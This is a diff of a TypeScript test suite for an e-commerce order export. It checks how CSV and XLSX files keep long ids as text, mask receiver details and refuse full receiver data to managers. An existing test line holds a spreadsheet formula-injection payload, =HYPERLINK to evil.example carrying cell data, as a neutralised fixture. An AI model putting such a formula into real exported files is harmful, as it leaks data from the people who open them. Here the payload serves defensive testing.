@@ -14,7 +14,7 @@ import type { TopTrade } from "@/lib/top";
 import { presetRange } from "@/lib/time";
 import { exportOrders } from "./export";
 import { parseOrderFilters } from "./filters";
-import { parseCsv } from "@/test/csv";
+import { excelReads, parseCsv } from "@/test/csv";
 import { genTrades, newTestShop, testViewer, writeTrades } from "./testing";
 
 const NOW = new Date(Date.UTC(2026, 10, 28, 4, 0, 0));
@@ -69,13 +69,13 @@ describe(`export on ${inject("databaseProvider")}`, () => {
     expect(body).toHaveLength(wantLines.length);
     const col = header!.indexOf("子订单实付（元）");
     expect(body.reduce((s, row) => s + parseYuan(row[col]!), 0)).toBe(wantLines.reduce((s, o) => s + o.paymentFen, 0));
-    expect(new Set(body.map((row) => row[0]))).toEqual(new Set(want.map((t) => t.tid)));
+    expect(new Set(body.map((row) => excelReads(row[0]!).text))).toEqual(new Set(want.map((t) => t.tid)));
     // Times in Asia/Shanghai (the test host runs in Los Angeles).
-    const t0 = want.find((t) => t.tid === body[0]![0])!;
+    const t0 = want.find((t) => t.tid === excelReads(body[0]![0]!).text)!;
     const sh = new Date(t0.created.getTime() + 8 * 3_600_000).toISOString().replace("T", " ").slice(0, 19);
     expect(body[0]![header!.indexOf("下单时间")]).toBe(sh);
     const entry = await db().auditLog.findFirstOrThrow({ where: { shopId, action: "orders.export" }, orderBy: { createdAt: "desc" } });
-    expect(entry.newValue).toMatchObject({ rows: wantLines.length, format: "csv", per: "line" });
+    expect(entry.newValue).toMatchObject({ rows: wantLines.length, format: "csv", per: "line", receiver: "none" });
     expect(JSON.stringify(entry.newValue)).toContain("last7");
   });
 
@@ -107,7 +107,7 @@ describe(`export on ${inject("databaseProvider")}`, () => {
     const rows = parseCsv((await bytes(r.stream)).subarray(3).toString("utf8")).slice(1);
     expect(rows).toHaveLength(1_300);
     expect(new Set(rows.map((x) => x[0])).size).toBe(1_300);
-    expect(rows.every((x) => x[0]!.startsWith("33"))).toBe(true);
+    expect(rows.every((x) => excelReads(x[0]!).text.startsWith("33"))).toBe(true);
   });
 
   it("neutralises formula injection in CSV text cells (hostile memo, titles, SKU, outer id, nick), keeps numbers numbers, and XLSX typed as strings", async () => {
@@ -139,7 +139,7 @@ describe(`export on ${inject("databaseProvider")}`, () => {
     for (const per of ["line", "trade"] as const) {
       const raw = (await bytes((await exportOrders(owner, all, { format: "csv", per, locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8");
       const [header, ...body] = parseCsv(raw);
-      const row = body.find((r) => r[0] === a!.tid)!;
+      const row = body.find((r) => r[0] === `="${a!.tid}"`)!;
       const cell = (name: string) => row[header!.indexOf(name)];
       expect(cell("卖家备注")).toBe(`'${hostile.memo}`);
       expect(cell("买家昵称")).toBe(`'${hostile.nick}`);
@@ -154,11 +154,11 @@ describe(`export on ${inject("databaseProvider")}`, () => {
       // Each neutralised cell stays quoted in the file (its quotes doubled inside).
       expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点我查看"")"`);
       expect(raw).toContain(`"'\t=1+1"`);
-      // No text cell of the file begins a formula; a benign leading quote is left alone.
+      // No text cell of the file begins a formula but the ids' ="<digits>" (a string literal); a benign leading quote is left alone.
       const numeric = ["单价（元）", "子订单实付（元）", "商品总额（元）", "运费（元）", "优惠（元）", "改价（元）", "实付（元，含运费）", "数量", "宝贝件数"].map((h) => header!.indexOf(h));
       expect(header!.some((c) => TRIGGER.test(c))).toBe(false);
-      for (const r of body) r.forEach((c, i) => expect(numeric.includes(i) ? /^-?\d+(\.\d+)?$/.test(c) : !TRIGGER.test(c), `${i}: ${JSON.stringify(c)}`).toBe(true));
-      expect(body.find((r) => r[0] === b!.tid)![header!.indexOf("卖家备注")]).toBe("'已是文本 = 不变");
+      for (const r of body) r.forEach((c, i) => expect(numeric.includes(i) ? /^-?\d+(\.\d+)?$/.test(c) : !TRIGGER.test(c) || /^="\d+"$/.test(c), `${i}: ${JSON.stringify(c)}`).toBe(true));
+      expect(body.find((r) => r[0] === `="${b!.tid}"`)![header!.indexOf("卖家备注")]).toBe("'已是文本 = 不变");
       // The buyer message is not an export column: it reaches no file.
       expect(raw).not.toContain("WEBSERVICE");
     }
@@ -186,6 +186,67 @@ describe(`export on ${inject("databaseProvider")}`, () => {
     const zip = await JSZip.loadAsync(file);
     const xml = await zip.file(/xl\/worksheets\/sheet\d+\.xml/)[0]!.async("string");
     expect(xml).not.toMatch(/<f[ >]/);
+  });
+
+  it("every id survives Excel: CSV id cells are =\"…\" text (a bare 19-digit tid would not be), XLSX id cells are text", async () => {
+    const shop = await newTestShop("编号测试店");
+    const [a] = genTrades({ n: 1, seed: 24, end: NOW, days: 1, tidPrefix: "30721" });
+    const waybill = "000731000000123";
+    a!.orders = [{ ...a!.orders[0]!, outerIid: "007", invoiceNo: waybill, logisticsCompany: "圆通速递" }];
+    const sql = await syncSql();
+    await sql.tx(() => storeTradesWork(sql.dialect, { shopId: shop, trades: [{ trade: a!, rawJson: JSON.stringify({ tid: a!.tid }), source: "detail" as const }], leaseOwner: null, now: new Date() }));
+    const owner = { ...testViewer(shop, "OWNER"), userId };
+    const all = parseOrderFilters({}).params;
+    const ids = { 订单号: a!.tid, 子订单号: a!.orders[0]!.oid, 运单号: waybill, 商家编码: "007" };
+    // The control: written bare, Excel would lose digits of each of these.
+    for (const id of Object.values(ids)) expect(excelReads(id)).not.toEqual({ type: "text", text: id });
+
+    const raw = (await bytes((await exportOrders(owner, all, { format: "csv", per: "line", locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8");
+    const [header, row] = parseCsv(raw);
+    for (const [name, id] of Object.entries(ids)) {
+      const cell = row![header!.indexOf(name)]!;
+      expect(cell, name).toBe(`="${id}"`);
+      expect(excelReads(cell), name).toEqual({ type: "text", text: id });
+    }
+    // In the file itself the cell is quoted, its quotes doubled (RFC 4180).
+    expect(raw).toContain(`"=""${a!.tid}"""`);
+
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load((await bytes((await exportOrders(owner, all, { format: "xlsx", per: "line", locale: "zh-CN", now: NOW })).stream)) as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0]!;
+    const head = (sheet.getRow(1).values as unknown[]).slice(1);
+    for (const [name, id] of Object.entries(ids)) {
+      const cell = sheet.getRow(2).getCell(head.indexOf(name) + 1);
+      expect([cell.type, cell.value, cell.numFmt], name).toEqual([ExcelJS.ValueType.String, id, "@"]);
+    }
+  });
+
+  it("receiver columns, masked: what the cache holds, for a manager too, with no reveal taken", async () => {
+    const { params } = parseOrderFilters({ range: "last7", prov: "浙江省" });
+    const before = await db().rateLimitEvent.count({ where: { userId, action: "reveal" } });
+    const r = await exportOrders(manager(), params, { format: "csv", per: "trade", locale: "zh-CN", receiver: "masked", now: NOW });
+    const [header, ...body] = parseCsv((await bytes(r.stream)).subarray(3).toString("utf8"));
+    const at = header!.indexOf("收货区县");
+    expect(header!.slice(at + 1, at + 4)).toEqual(["收件人", "收件人手机", "详细地址"]);
+    const want = trades.filter(inView);
+    expect(body).toHaveLength(want.length);
+    for (const row of body) {
+      const t = want.find((x) => x.tid === excelReads(row[0]!).text)!;
+      expect(row.slice(at + 1, at + 3)).toEqual([t.receiverName ?? "", t.receiverMobile ?? ""]);
+    }
+    expect(await db().rateLimitEvent.count({ where: { userId, action: "reveal" } })).toBe(before);
+    const entry = await db().auditLog.findFirstOrThrow({ where: { shopId, action: "orders.export" }, orderBy: { createdAt: "desc" } });
+    expect(entry.newValue).toMatchObject({ receiver: "masked", rows: want.length });
+    // Without the option there are no receiver columns at all.
+    const plain = parseCsv((await bytes((await exportOrders(manager(), params, { format: "csv", per: "trade", locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8"))[0]!;
+    expect(plain).not.toContain("收件人");
+  });
+
+  it("full receivers are refused to a role that may not reveal (a manager), before anything is counted", async () => {
+    const before = await db().rateLimitEvent.count({ where: { userId } });
+    const e = await exportOrders(manager(), parseOrderFilters({}).params, { format: "csv", per: "trade", locale: "zh-CN", receiver: "full", now: NOW }).then(() => null, (x: unknown) => x);
+    expect(e).toMatchObject({ code: "forbidden" });
+    expect(await db().rateLimitEvent.count({ where: { userId } })).toBe(before);
   });
 
   it("refuses customer service", async () => {
